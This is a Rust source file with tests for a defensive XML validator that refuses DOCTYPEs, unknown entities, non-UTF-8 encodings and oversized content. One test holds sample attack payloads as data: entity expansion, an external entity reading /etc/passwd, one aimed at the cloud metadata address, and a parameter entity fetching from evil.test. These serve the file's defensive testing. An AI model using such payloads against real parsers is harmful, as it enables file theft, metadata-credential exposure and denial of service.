//! The bounds of content in XML, looked at byte by byte: no tree is made of it, and nothing in it is ever expanded or fetched.

use crate::order;

/// The bounds of a document.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct XmlCaps {
    /// The most elements within one another.
    pub depth: usize,
    /// The most elements.
    pub elements: u32,
    /// The most attributes of an element.
    pub attributes: u32,
    /// The most bytes of the text between two tags, of a name, of a value, or of a comment, as written.
    pub text: u64,
}

/// A reason to refuse a document.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Fault {
    /// It is no XML (XML 1.0 §2.1).
    Syntax,
    /// It is not in UTF-8.
    Encoding,
    /// It declares a type (XML 1.0 §2.8).
    Doctype,
    /// It refers to an entity that is none of the five that every document has (XML 1.0 §4.6).
    Entity,
    /// It is nested too deeply.
    Depth,
    /// It has too many elements.
    Elements,
    /// An element has too many attributes.
    Attributes,
    /// A text is too long.
    Text,
}

/// The part of a document that is looked at: before its only element, in it, or after it.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Part {
    Prolog,
    Content,
    End,
}

/// Checks that `document` is XML 1.0 in UTF-8 within the `caps`: markup that is well-formed as far as its bounds can be told by. Characters of
/// names and prefixes of namespaces are not looked at.
///
/// # Errors
/// The first reason to refuse it.
pub fn check(document: &[u8], caps: &XmlCaps) -> Result<(), Fault> {
    let text = core::str::from_utf8(document).map_err(|_| Fault::Encoding)?;
    let mut rest = text.strip_prefix('\u{feff}').unwrap_or(text).as_bytes();
    if !text.chars().all(is_character) {
        // UTF-16 and UTF-32 have null bytes among theirs.
        return Err(if document.contains(&0) { Fault::Encoding } else { Fault::Syntax });
    }
    if let Some(declaration) = rest.strip_prefix(b"<?xml").filter(|rest| rest.first().is_some_and(is_space)) {
        rest = after_declaration(declaration, caps)?;
    }
    let mut open: Vec<&[u8]> = Vec::new();
    let (mut part, mut elements) = (Part::Prolog, 0);
    // Parsers join what is between two tags, whatever comments and sections part it.
    let mut text_length = 0;
    loop {
        let markup = rest.iter().position(|byte| *byte == b'<').unwrap_or(rest.len());
        let (piece, after) = rest.split_at_checked(markup).unwrap_or((rest, &[]));
        if part == Part::Content {
            // XML 1.0 §2.4: it ends a section of character data alone.
            if piece.windows(3).any(|window| window == b"]]>") {
                return Err(Fault::Syntax);
            }
            text_length = longer(text_length, piece, caps)?;
            check_text(piece, caps)?;
        } else if !piece.iter().all(is_space) {
            return Err(Fault::Syntax);
        }
        rest = match after {
            [] => return if part == Part::End { Ok(()) } else { Err(Fault::Syntax) },
            [b'<', b'!', b'-', b'-', after @ ..] => {
                let (comment, after) = split(after, b"--")?;
                within(comment, caps)?;
                // XML 1.0 §2.5: no `--` in it, and none before its end.
                after.strip_prefix(b">").ok_or(Fault::Syntax)?
            }
            [b'<', b'!', b'[', b'C', b'D', b'A', b'T', b'A', b'[', after @ ..] if part == Part::Content => {
                let (text, after) = split(after, b"]]>")?;
                text_length = longer(text_length, text, caps)?;
                after
            }
            [b'<', b'!', b'D', b'O', b'C', b'T', b'Y', b'P', b'E', ..] if part == Part::Prolog => {
                return Err(Fault::Doctype);
            }
            [b'<', b'?', after @ ..] => {
                let (instruction, after) = split(after, b"?>")?;
                within(instruction, caps)?;
                let (target, _) = name(instruction, caps)?;
                // XML 1.0 §2.6: a declaration stands at the very beginning.
                if target.eq_ignore_ascii_case(b"xml") {
                    return Err(Fault::Syntax);
                }
                after
            }
            [b'<', b'/', after @ ..] => {
                text_length = 0;
                let (own, after) = name(after, caps)?;
                // XML 1.0 §3: the end tag has the name of the start tag.
                if open.pop() != Some(own) {
                    return Err(Fault::Syntax);
                }
                if open.is_empty() {
                    part = Part::End;
                }
                after_space(after).strip_prefix(b">").ok_or(Fault::Syntax)?
            }
            [b'<', after @ ..] => {
                if part == Part::End {
                    return Err(Fault::Syntax);
                }
                part = Part::Content;
                text_length = 0;
                elements = within_number(elements, caps.elements, Fault::Elements)?;
                if open.len() >= caps.depth {
                    return Err(Fault::Depth);
                }
                let (own, after) = name(after, caps)?;
                let (is_empty, after) = after_attributes(after, caps)?;
                if !is_empty {
                    open.push(own);
                } else if open.is_empty() {
                    part = Part::End;
                }
                after
            }
            _ => return Err(Fault::Syntax),
        };
    }
}

/// The document after the attributes of a start tag, and whether that is an empty element's (XML 1.0 §3.1).
fn after_attributes<'t>(text: &'t [u8], caps: &XmlCaps) -> Result<(bool, &'t [u8]), Fault> {
    let mut names: Vec<&[u8]> = Vec::new();
    let mut rest = text;
    loop {
        let spaced = after_space(rest);
        match spaced {
            [b'>', after @ ..] => return Ok((false, after)),
            [b'/', b'>', after @ ..] => return Ok((true, after)),
            _ if spaced.len() == rest.len() => return Err(Fault::Syntax),
            _ => {}
        }
        let (own, after) = name(spaced, caps)?;
        if names.len() >= caps.attributes as usize {
            return Err(Fault::Attributes);
        }
        names.push(own);
        let after = after_space(after).strip_prefix(b"=").ok_or(Fault::Syntax)?;
        let (value, after) = quoted(after_space(after))?;
        if value.contains(&b'<') {
            return Err(Fault::Syntax);
        }
        check_text(value, caps)?;
        rest = after;
        // XML 1.0 §3.1: no name twice. They are sorted once, at the end of the tag.
        if matches!(after_space(rest), [b'>' | b'/', ..]) {
            order::sort_by(&mut names, Ord::cmp);
            if names.windows(2).any(|pair| matches!(pair, [one, other] if one == other)) {
                return Err(Fault::Syntax);
            }
        }
    }
}

/// The document after its declaration (XML 1.0 §2.8). The encoding that it states is UTF-8, or ASCII, which is a part of it.
fn after_declaration<'t>(text: &'t [u8], caps: &XmlCaps) -> Result<&'t [u8], Fault> {
    let mut rest = text;
    loop {
        let spaced = after_space(rest);
        if let Some(after) = spaced.strip_prefix(b"?>") {
            return Ok(after);
        }
        let (own, after) = name(spaced, caps)?;
        let after = after_space(after).strip_prefix(b"=").ok_or(Fault::Syntax)?;
        let (value, after) = quoted(after_space(after))?;
        let is_utf8 = || [&b"utf-8"[..], b"us-ascii"].iter().any(|known| value.eq_ignore_ascii_case(known));
        match own {
            b"encoding" if !is_utf8() => return Err(Fault::Encoding),
            // XML 1.1 has other white space.
            b"version" if value != b"1.0" => return Err(Fault::Syntax),
            b"version" | b"encoding" | b"standalone" => rest = after,
            _ => return Err(Fault::Syntax),
        }
    }
}

/// Checks the references in a text (XML 1.0 §4.1): to characters, and to the five entities that every document has.
fn check_text(text: &[u8], caps: &XmlCaps) -> Result<(), Fault> {
    within(text, caps)?;
    let mut rest = text;
    while let Some(at) = rest.iter().position(|byte| *byte == b'&') {
        let (reference, after) = split(rest.get(at + 1..).unwrap_or_default(), b";")?;
        let is_known = match reference {
            [b'#', b'x', digits @ ..] => is_reference(digits, 16),
            [b'#', digits @ ..] => is_reference(digits, 10),
            b"amp" | b"lt" | b"gt" | b"apos" | b"quot" => true,
            _ if !reference.is_empty() && reference.iter().all(is_of_name) => return Err(Fault::Entity),
            _ => false,
        };
        if !is_known {
            return Err(Fault::Syntax);
        }
        rest = after;
    }
    Ok(())
}

/// Returns whether these digits are those of a character (XML 1.0 §4.1).
fn is_reference(digits: &[u8], radix: u32) -> bool {
    let text = core::str::from_utf8(digits).unwrap_or_default();
    let is_number = !text.is_empty() && text.bytes().all(|byte| char::from(byte).is_digit(radix));
    is_number && u32::from_str_radix(text, radix).ok().and_then(char::from_u32).is_some_and(is_character)
}

/// A name, and what follows it (XML 1.0 §2.3): all up to a delimiter.
fn name<'t>(text: &'t [u8], caps: &XmlCaps) -> Result<(&'t [u8], &'t [u8]), Fault> {
    let end = text.iter().position(|byte| !is_of_name(byte)).unwrap_or(text.len());
    let (name, after) = text.split_at_checked(end).ok_or(Fault::Syntax)?;
    within(name, caps)?;
    match name.first() {
        None | Some(b'0'..=b'9' | b'-' | b'.') => Err(Fault::Syntax),
        Some(_) => Ok((name, after)),
    }
}

fn is_of_name(byte: &u8) -> bool {
    byte.is_ascii_alphanumeric() || !byte.is_ascii() || b"_:-.".contains(byte)
}

/// The text within quotes, and what follows them.
fn quoted(text: &[u8]) -> Result<(&[u8], &[u8]), Fault> {
    match text {
        [quote @ (b'"' | b'\''), rest @ ..] => split(rest, &[*quote]),
        _ => Err(Fault::Syntax),
    }
}

/// The text before the first `end`, and the text after it.
fn split<'t>(text: &'t [u8], end: &[u8]) -> Result<(&'t [u8], &'t [u8]), Fault> {
    let at = text.windows(end.len()).position(|window| window == end).ok_or(Fault::Syntax)?;
    let (before, rest) = text.split_at_checked(at).ok_or(Fault::Syntax)?;
    Ok((before, rest.get(end.len()..).unwrap_or_default()))
}

fn within(text: &[u8], caps: &XmlCaps) -> Result<(), Fault> {
    if text.len() as u64 > caps.text { Err(Fault::Text) } else { Ok(()) }
}

/// The length of a text of this `length` with another `piece` of it.
fn longer(length: usize, piece: &[u8], caps: &XmlCaps) -> Result<usize, Fault> {
    let length = length.saturating_add(piece.len());
    if length as u64 > caps.text { Err(Fault::Text) } else { Ok(length) }
}

fn within_number(number: u32, most: u32, fault: Fault) -> Result<u32, Fault> {
    if number >= most { Err(fault) } else { Ok(number + 1) }
}

/// XML 1.0 §2.3.
fn is_space(byte: &u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'\n' | b'\r')
}

fn after_space(text: &[u8]) -> &[u8] {
    let end = text.iter().position(|byte| !is_space(byte)).unwrap_or(text.len());
    text.get(end..).unwrap_or_default()
}

/// XML 1.0 §2.2.
fn is_character(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | ' '..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const CAPS: XmlCaps = XmlCaps { depth: 4, elements: 8, attributes: 3, text: 64 };

    fn said(text: &str) -> Result<(), Fault> {
        check(text.as_bytes(), &CAPS)
    }

    /// XML 1.0 §2.1, §2.4 to §2.8, §3.1; Namespaces in XML §3.
    #[test]
    fn what_is_well_formed_is_taken() {
        for text in [
            "<a/>",
            "<a></a>",
            "<a ></a >",
            "\u{feff}<a/>",
            "<?xml version=\"1.0\"?><a/>",
            "<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n<a/>\n",
            "<?xml version=\"1.0\" encoding=\"us-ascii\"?><a/>",
            "<!-- a - b --><?pi x?><a>t<!----><?pi?></a><!-- end --> <?end?>",
            "<a b='1' c = \"2\"\n d='>'/>",
            "<a b='x]]>y'/>",
            "<a>&amp;&lt;&gt;&apos;&quot;&#65;&#x1F600;</a>",
            "<a><![CDATA[<b>&nothing;]] ]>]]></a>",
            "<a><![CDATA[]]></a>",
            "<s:Envelope xmlns:s='urn:s' xmlns='urn:d'><s:Body/></s:Envelope>",
            "<größe höhe='1'>é</größe>",
            "<a>]]</a>",
            "<_ :b='' b-.1=''/>",
        ] {
            assert_eq!(said(text), Ok(()), "{text}");
        }
    }

    #[test]
    fn what_is_not_well_formed_is_refused() {
        for text in [
            "",
            " ",
            "text",
            "<a>",
            "</a>",
            "<a></b>",
            "<a><b></a></b>",
            "<a/><b/>",
            "<a/>text",
            "text<a/>",
            "<a/>&amp;",
            "<a b/>",
            "<a b=1/>",
            "<a b='1'c='2'/>",
            "<a b='1' b='2'/>",
            "<a b='1' c='2' b='3'></a>",
            "<a b='<'/>",
            "<a b='1/>",
            "<a b='1'",
            "< a/>",
            "<1/>",
            "<-a/>",
            "<a/ >",
            "<a>&</a>",
            "<a>&;</a>",
            "<a>&#;</a>",
            "<a>&#x;</a>",
            "<a>&#0;</a>",
            "<a>&#xD800;</a>",
            "<a>&#xFFFE;</a>",
            "<a>&#-1;</a>",
            "<a>&#x110000;</a>",
            "<a>&# 65;</a>",
            "<a>&amp</a>",
            "<a>]]></a>",
            "<a><![CDATA[</a>",
            "<![CDATA[]]><a/>",
            "<a><!-- a -- b --></a>",
            "<a><!-- a ---></a>",
            "<a><!-- a</a>",
            "<!---><a/>",
            "<a><?xml version='1.0'?></a>",
            " <?xml version='1.0'?><a/>",
            "<?XML?><a/>",
            "<??><a/>",
            "<?xml version='1.0' other='1'?><a/>",
            "<?xml version=1.0?><a/>",
            "<?xml version='1.1'?><a/>",
            "<a><!DOCTYPE a></a>",
            "<a/><!DOCTYPE a>",
            "<a><!ELEMENT a ANY></a>",
            "<a>\u{1}</a>",
            "<a>\u{ffff}</a>",
            "<a\u{a0}/>b",
        ] {
            assert_eq!(said(text), Err(Fault::Syntax), "{text}");
        }
    }

    /// CWE-776, CWE-611: nothing is declared, so nothing grows and nothing is fetched. Parsers fetch external types, too.
    #[test]
    fn types_and_entities_are_refused() {
        let laughs = "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><l>&b;</l>";
        let external = "<!DOCTYPE l SYSTEM \"file:///etc/passwd\"><l/>";
        let both = "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY x SYSTEM 'http://169.254.169.254/'>]><l>&x;</l>";
        let parameter = "<!DOCTYPE l [<!ENTITY % x SYSTEM 'http://evil.test/'> %x;]><l/>";
        for text in [laughs, external, both, parameter, "<!DOCTYPE html><html/>", "<!-- --><!DOCTYPE l><l/>"] {
            assert_eq!(said(text), Err(Fault::Doctype), "{text}");
        }
        for text in ["<a>&x;</a>", "<a b='&x;'/>", "<a>&é;</a>", "<a>&AMP;</a>"] {
            assert_eq!(said(text), Err(Fault::Entity), "{text}");
        }
    }

    /// RFC 7303 §3: whoever reads another encoding sees other markup.
    #[test]
    fn other_encodings_are_refused() {
        let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>();
        for bytes in
            [&utf16("<a/>")[..], &utf16("\u{feff}<a/>"), b"<a>\xe9</a>", b"\0\0\0<", b"<\0\0\0", b"\xff\xfe<\0"]
        {
            assert_eq!(check(bytes, &CAPS), Err(Fault::Encoding), "{bytes:?}");
        }
        for encoding in ["utf-7", "UTF-16", "ISO-8859-1", "ebcdic-cp-us", ""] {
            let text = format!("<?xml standalone='encoding=\"utf-8\"' encoding = \"{encoding}\"?><a/>");
            assert_eq!(said(&text), Err(Fault::Encoding), "{text}");
        }
    }

    /// docs/configuration.md, Content of requests: a text is what a parser gives as one, between two tags.
    #[test]
    fn a_text_is_as_long_as_its_pieces_together() {
        let half = "x".repeat(32);
        for between in ["<!---->", "<?p?>", "<![CDATA[]]>"] {
            let document = |more: &str| format!("<a>{half}{between}{half}{more}</a>");
            assert_eq!((said(&document("")), said(&document("x"))), (Ok(()), Err(Fault::Text)), "{between}");
        }
        assert_eq!(said(&format!("<a>{half}<![CDATA[{half}x]]></a>")), Err(Fault::Text));
        for between in ["<b/>", "<b></b>"] {
            assert_eq!(said(&format!("<a>{half}x{between}{half}x</a>")), Ok(()), "{between}");
        }
    }

    #[test]
    fn bounds_hold() {
        assert_eq!(said("<a><a><a><a/></a></a></a>"), Ok(()));
        assert_eq!(said("<a><a><a><a><a/></a></a></a></a>"), Err(Fault::Depth));
        assert_eq!(said(&"<a>".repeat(1_000_000)), Err(Fault::Depth));
        assert_eq!(said(&format!("<a>{}</a>", "<b/>".repeat(7))), Ok(()));
        assert_eq!(said(&format!("<a>{}</a>", "<b/>".repeat(8))), Err(Fault::Elements));
        assert_eq!(said("<a b='' c='' d=''/>"), Ok(()));
        assert_eq!(said("<a b='' c='' d='' e=''/>"), Err(Fault::Attributes));
        for (before, after) in [
            ("<a>", "</a>"),
            ("<a b='", "'/>"),
            ("<a><![CDATA[", "]]></a>"),
            ("<!--", "--><a/>"),
            ("<?", "?><a/>"),
            ("<", "/>"),
            ("<a ", "=''/>"),
        ] {
            let of = |length| said(&format!("{before}{}{after}", "x".repeat(length)));
            assert_eq!((of(64), of(65)), (Ok(()), Err(Fault::Text)), "{before}");
        }
    }

    proptest! {
        /// Whatever markup there is, there is an answer.
        #[test]
        fn every_text_has_an_answer(parts in prop::collection::vec(
            prop::sample::select(vec![
                "<", ">", "/", "a", "b", "=", "'", "\"", " ", "&", ";", "#", "x", "1", "!", "--", "[", "]", "]]>", "<![CDATA[", "<?xml",
                "?>", "<!DOCTYPE", "é", "\u{feff}", "<a>", "</a>", "<a b='c'/>", "&amp;",
            ]), 0..40)) {
            let text = parts.concat();
            // What is taken stays taken with comments around.
            if said(&text).is_ok() && !text.contains("<?xml") && !text.starts_with('\u{feff}') {
                prop_assert_eq!(said(&format!("<!---->{text}<!---->")), Ok(()));
            }
        }

        #[test]
        fn all_bytes_have_an_answer(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
            let _ = check(&bytes, &CAPS);
        }
    }
}
